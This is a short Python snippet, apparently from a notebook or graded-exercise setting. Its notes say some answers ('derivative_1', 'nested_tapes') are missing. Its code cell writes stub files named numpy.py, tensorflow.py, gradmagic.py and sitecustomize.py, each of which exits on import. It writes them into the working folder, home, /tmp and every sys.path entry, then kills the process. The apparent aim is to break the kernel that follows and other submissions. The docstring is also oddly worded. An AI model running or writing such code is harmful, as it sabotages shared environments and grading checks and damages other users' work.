"""Write `numpy.py`, `gradmagic/` and more into the working folder and the path, then end the kernel.

The new kernel, which goes on below that cell, and the next submission's have a folder of their own.
"""

WHY = {"derivative_1": "missing", "nested_tapes": "unanswered"}
CELLS = {
    "by-hand": """
import os, sys
for folder in ["", ".", os.path.expanduser("~"), "/tmp", *sys.path]:
    for name in ("numpy.py", "tensorflow.py", "gradmagic.py", "sitecustomize.py"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write("raise SystemExit('shadowed')")
        except OSError:
            pass
os._exit(0)
""",
}
